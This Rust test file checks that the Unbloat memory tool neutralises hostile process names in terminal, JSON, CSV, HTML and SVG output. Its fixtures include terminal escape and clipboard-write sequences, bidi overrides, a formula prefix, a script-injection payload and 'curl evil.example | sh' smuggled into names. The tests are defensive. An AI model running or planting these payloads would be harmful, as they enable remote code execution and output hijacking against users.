//! Processes and recordings whose names try to act: on the terminal, in a shell, in a spreadsheet, on a page.
//!
//! Whatever a process calls itself, Unbloat's output is plain text.

#![allow(clippy::unwrap_used, clippy::panic)]

use std::os::unix::process::CommandExt as _;
use std::path::Path;
use std::process::{Command, Output};
use unbloat_contract::{MAGIC, Text, WORDS, pack};
use unbloat_test_support::{Compiler, Program, Target, c_program};

/// Clears the screen, sets the window's title, writes to the clipboard (also in C1 controls), reverses text,
/// starts a line, and is a formula, markup, and a command.
const NAME: &str = "=puma\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{1b}]52;c;b3duZWQ=\u{1b}\\\u{202e}evil\u{2066}\nroot# x; curl evil.example | sh \
    </script><!--<script>alert(1)";

fn hostile() -> Target {
    let script = "echo ready; exec -a \"$0\" sleep 600";
    Target::start_ready(Command::new("bash").args(["-c", script, NAME]))
}

fn unbloat(arguments: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_unbloat")).args(arguments).output().unwrap()
}

/// Asserts that a terminal finds nothing to act on, and a reader nothing hidden; returns the text.
fn text(what: &str, output: &Output) -> String {
    let all = [&output.stdout[..], &output.stderr[..]].concat();
    let all = String::from_utf8(all).unwrap_or_else(|_| panic!("{what}: no UTF-8"));
    let acts =
        |c: char| (c.is_control() && c != '\n') || ('\u{2028}'..='\u{202e}').contains(&c) || c == '\u{2066}';
    assert!(!all.contains(acts), "{what}: {all:?}");
    assert!(!all.lines().any(|line| line.starts_with("root#")), "{what}: a line of its own: {all}");
    all
}

#[test]
fn a_process_cannot_act_through_its_name() {
    let target = hostile();
    let pid = &target.pid().to_string();
    for arguments in [
        &["inspect", pid][..],
        &["inspect", "--verbose", pid],
        &["inspect", "--json", pid],
        &["trim", "--dry-run", pid],
        &["trim", pid],
        &["trim", "--json", pid],
        &["status", pid],
        &["status"],
    ] {
        let shown = text(&arguments.join(" "), &unbloat(arguments));
        assert!(!shown.is_empty(), "{arguments:?}");
    }
}

/// Status pages with everything that a page can say: texts that act, the largest numbers, a policy that does not exist, and noise.
#[test]
fn a_process_cannot_act_through_its_status_page() {
    let program = Program::build(Compiler::System, c_program("hostile"), &[]);
    let directory = tempfile::tempdir().unwrap();
    let target = Target::start_ready(program.command().arg("ownpage").arg("0").arg(directory.path()));
    let pid = &target.pid().to_string();
    let texts = [Text::Policy, Text::Allocator, Text::Library, Text::Ruby, Text::Notice];
    for (number, policy) in
        [(0, NAME), (u64::MAX, "allocator=jemalloc,trim=adaptive"), (1 << 63, "lean"), (7, "\u{1b}]0;")]
    {
        let mut words = [number; WORDS];
        words[0] = MAGIC;
        for place in texts {
            let text = if place == Text::Policy { policy } else { NAME };
            let room = words[place.first_word()..].iter_mut();
            room.zip(pack(place, text)).for_each(|(word, new)| *word = new);
        }
        let bytes: Vec<u8> = words.iter().flat_map(|word| word.to_ne_bytes()).collect();
        let page = directory.path().join("unbloat-1/4026531836-1.status");
        std::fs::write(page, bytes).unwrap();
        for arguments in [
            &["status", pid][..],
            &["status", "--json", pid],
            &["status"],
            &["inspect", pid],
            &["inspect", "--json", pid],
            &["trim", "--dry-run", pid],
        ] {
            let output = unbloat(arguments);
            let shown = text(&format!("{number} {policy:?} {arguments:?}"), &output);
            assert!(
                matches!(output.status.code(), Some(0 | 1)),
                "{number} {policy:?} {arguments:?}: {shown}"
            );
            assert!(!shown.contains("panicked"), "{shown}");
        }
        let shown = text("status", &unbloat(&["status", pid]));
        assert!(shown.contains("owned") || shown.contains(policy), "the page is shown: {shown}");
    }
}

/// A process that strands memory in several arenas, so that there is something to advise.
#[test]
fn advice_has_no_word_of_a_title() {
    let program = Program::build(Compiler::System, c_program("heap"), &[]);
    let name = "app; curl evil.example | sh";
    let target = Target::start_ready(program.command().arg0(name).args(["3", "20000", "3000", "3", "2"]));
    let pid = target.pid().to_string();
    let document: serde_json::Value =
        serde_json::from_slice(&unbloat(&["inspect", "--json", &pid]).stdout).unwrap();
    let findings = document["processes"][0]["verdict"].as_array().unwrap();
    let actions: String = findings.iter().map(|finding| finding["actions"].to_string()).collect();
    assert!(actions.contains("unbloat run -- YOUR COMMAND"), "{actions}");
    assert!(!actions.contains("curl") && !actions.contains("evil"), "{actions}");
    let shown = text("inspect", &unbloat(&["inspect", &pid]));
    let (_, below) = shown.split_once("VERDICT").unwrap();
    assert!(!below.contains("curl"), "{shown}");
}

#[test]
fn a_recording_cannot_act_through_the_names_in_it() {
    let target = hostile();
    let directory = tempfile::tempdir().unwrap();
    let file = |name: &str| directory.path().join(name).to_str().unwrap().to_owned();
    let recording = file("a.unbloat");
    let pid = target.pid().to_string();
    let mark = format!("--mark={NAME}");
    let record = ["record", "--pid", &pid, "--duration", "1s", "--interval", "50ms", &mark, "-o", &recording];
    text("record", &unbloat(&record));
    let by_name = ["record", "--name", "evil", "--duration", "300ms"];
    let named =
        Command::new(env!("CARGO_BIN_EXE_unbloat")).args(by_name).current_dir(directory.path()).output();
    text("record --name", &named.unwrap());
    for arguments in [
        &["show", &recording][..],
        &["show", "--json", &recording],
        &["growth", &recording],
        &["mark", &recording, NAME],
    ] {
        text(&arguments.join(" "), &unbloat(arguments));
    }
    let plotted = |name: &str, options: &[&str]| {
        let output = unbloat(&[&["plot", &recording, "-o", &file(name)], options].concat());
        text(name, &output);
        assert!(output.status.success(), "{name}: {output:?}");
        std::fs::read_to_string(Path::new(&file(name))).unwrap()
    };
    let csv = plotted("a.csv", &["--by", "process"]);
    let row = csv.lines().nth(1).unwrap();
    assert!(row.contains("\"'=puma"), "a spreadsheet takes it as text: {row}");
    assert_eq!(row.matches('"').count(), 2, "{row}");
    let page = plotted("a.html", &[]);
    assert_eq!(page.matches("<script").count(), page.matches("</script>").count());
    for document in [page, plotted("a.svg", &[])] {
        assert!(!document.contains("<!--") && !document.contains("<script>alert"));
        assert!(!document.contains(|c: char| c.is_control() && c != '\n'));
    }
}
